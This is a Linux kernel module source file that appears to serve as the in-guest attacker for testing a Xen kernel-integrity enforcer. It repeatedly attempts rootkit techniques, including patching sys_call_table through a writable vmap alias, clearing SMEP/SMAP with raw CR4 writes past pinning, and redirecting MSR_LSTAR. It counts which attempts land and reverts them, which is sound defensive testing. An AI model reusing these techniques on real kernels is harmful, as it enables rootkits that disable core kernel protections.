// SPDX-License-Identifier: GPL-2.0
/*
 * The lab's in-guest attacker (tests/lab): a kernel thread that, every round, does
 * what a ring-0 rootkit does against the kernel-integrity policy, and checks from
 * inside the guest whether each attempt took effect:
 *
 *   - writes a sys_call_table slot through its own writable alias of the page
 *     (vmap of the frame: the rootkit way since CR0.WP pinning), then reads it back;
 *   - writes the same byte back at the start of that page, outside the table
 *     (a write the policy allows on a trapped page);
 *   - clears CR4.SMEP|SMAP with a raw mov (past the kernel's CR4 pinning), reads back;
 *   - toggles CR4.TSD (a CR4 write the policy allows);
 *   - points MSR_LSTAR away from entry_SYSCALL_64, reads back;
 *   - calls commit_creds(prepare_creds()) (the policy's breakpoint);
 *   - runs cpuid 0x40000000 (what `xen-access cpuid` counts, for the side by side);
 *   - writes its own buffer (benign).
 *
 * Anything that landed is put back at once with interrupts off, so the guest keeps
 * running with or without the enforcer. The counters live on one page whose frame
 * number goes out on Xen's debug port 0xe9 ("(dN) policyc-lab report gfn=0x..."
 * in `xl dmesg`), where dom0 maps it read-only (tests/lab/dom0_check.py).
 */
#include <linux/module.h>
#include <linux/kthread.h>
#include <linux/delay.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/cred.h>
#include <linux/slab.h>
#include <linux/io.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("policyc lab: in-guest attacks and their outcome, seen from the guest");

static unsigned long table_addr;
module_param_named(sys_call_table, table_addr, ulong, 0444);
MODULE_PARM_DESC(sys_call_table, "address of sys_call_table (from /proc/kallsyms)");
static unsigned int slot = 335;	/* an unused x86-64 syscall number: sys_ni_syscall */
module_param(slot, uint, 0444);
static unsigned int period_ms = 10;
module_param(period_ms, uint, 0444);

#define REPORT_MAGIC 0x4c4e5850u	/* "PXNL" */

/* dom0_check.py's LINUX_FIELDS, in this order */
struct lab_report {
	u32 magic, round;
	u32 cr4_landed, cr4_blocked, msr_landed, msr_blocked, sct_landed, sct_blocked;
	u32 benign_landed, benign_blocked, creds, cr4_ok_landed, cr4_ok_blocked;
	u32 collateral, cpuid, fault, cr4_lo;
};

static struct lab_report *report;
static struct task_struct *worker;
static void *alias_page;	/* the writable alias of sys_call_table's page */
static u64 *benign;

static inline void raw_write_cr4(unsigned long v)
{
	asm volatile("mov %0, %%cr4" : : "r"(v) : "memory");
}

static inline unsigned long raw_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

static void debug_port_print(const char *s)
{
	while (*s)
		outb(*s++, 0xe9);
}

static void attack_syscall_table(void)
{
	unsigned long addr = table_addr + slot * sizeof(u64);
	u64 *p = alias_page + offset_in_page(addr);
	volatile u8 *start = alias_page;
	u64 orig = READ_ONCE(*p), bad = orig ^ 0x40;

	WRITE_ONCE(*p, bad);
	if (READ_ONCE(*p) == bad) {
		report->sct_landed++;
		WRITE_ONCE(*p, orig);
	} else {
		report->sct_blocked++;
	}
	if ((addr & PAGE_MASK) < table_addr) {	/* the page's first byte is outside the table */
		u8 b = start[0];

		start[0] = b;
		report->collateral++;
	}
}

static void attack_registers(void)
{
	unsigned long flags, cr4, now;
	u64 lstar, seen;

	local_irq_save(flags);
	cr4 = raw_read_cr4();
	report->cr4_lo = (u32)cr4;
	if (cr4 & (X86_CR4_SMEP | X86_CR4_SMAP)) {
		raw_write_cr4(cr4 & ~(X86_CR4_SMEP | X86_CR4_SMAP));
		now = raw_read_cr4();
		if (now != cr4) {
			report->cr4_landed++;
			raw_write_cr4(cr4);
		} else {
			report->cr4_blocked++;
		}
	}
	raw_write_cr4(cr4 ^ X86_CR4_TSD);
	if (raw_read_cr4() == (cr4 ^ X86_CR4_TSD))
		report->cr4_ok_landed++;
	else
		report->cr4_ok_blocked++;
	raw_write_cr4(cr4);

	rdmsrl(MSR_LSTAR, lstar);
	if (wrmsrl_safe(MSR_LSTAR, lstar + 0x40) == 0) {
		rdmsrl(MSR_LSTAR, seen);
		if (seen != lstar) {
			report->msr_landed++;
			wrmsrl(MSR_LSTAR, lstar);
		} else {
			report->msr_blocked++;
		}
	} else {
		report->fault++;
	}
	local_irq_restore(flags);
}

static int attacker(void *unused)
{
	while (!kthread_should_stop()) {
		struct cred *c;

		attack_syscall_table();
		attack_registers();
		c = prepare_creds();
		if (c) {
			commit_creds(c);
			report->creds++;
		}
		cpuid_eax(0x40000000);
		report->cpuid++;
		WRITE_ONCE(*benign, report->round);
		if (READ_ONCE(*benign) == report->round)
			report->benign_landed++;
		else
			report->benign_blocked++;
		WRITE_ONCE(report->round, report->round + 1);
		if ((report->round & 1023) == 0)
			pr_info("policyc-lab: round %u cr4 %u/%u msr %u/%u sct %u/%u creds %u\n",
				report->round, report->cr4_landed, report->cr4_blocked, report->msr_landed,
				report->msr_blocked, report->sct_landed, report->sct_blocked, report->creds);
		msleep(period_ms);
	}
	return 0;
}

static int __init lab_init(void)
{
	struct page *pg;
	char line[96];

	if (!table_addr) {
		pr_err("policyc-lab: sys_call_table= is required\n");
		return -EINVAL;
	}
	report = (struct lab_report *)get_zeroed_page(GFP_KERNEL);
	benign = kzalloc(sizeof(*benign), GFP_KERNEL);
	if (!report || !benign)
		goto nomem;
	pg = virt_to_page((void *)(table_addr + slot * sizeof(u64)));
	alias_page = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!alias_page)
		goto nomem;
	report->magic = REPORT_MAGIC;
	worker = kthread_run(attacker, NULL, "policyc-lab");
	if (IS_ERR(worker)) {
		vunmap(alias_page);
		free_page((unsigned long)report);
		kfree(benign);
		return PTR_ERR(worker);
	}
	snprintf(line, sizeof(line), "policyc-lab report gfn=0x%lx\n",
		 (unsigned long)(virt_to_phys(report) >> PAGE_SHIFT));
	debug_port_print(line);
	pr_info("%s", line);
	return 0;
nomem:
	free_page((unsigned long)report);
	kfree(benign);
	return -ENOMEM;
}

static void __exit lab_exit(void)
{
	kthread_stop(worker);
	vunmap(alias_page);
	free_page((unsigned long)report);
	kfree(benign);
}

module_init(lab_init);
module_exit(lab_exit);
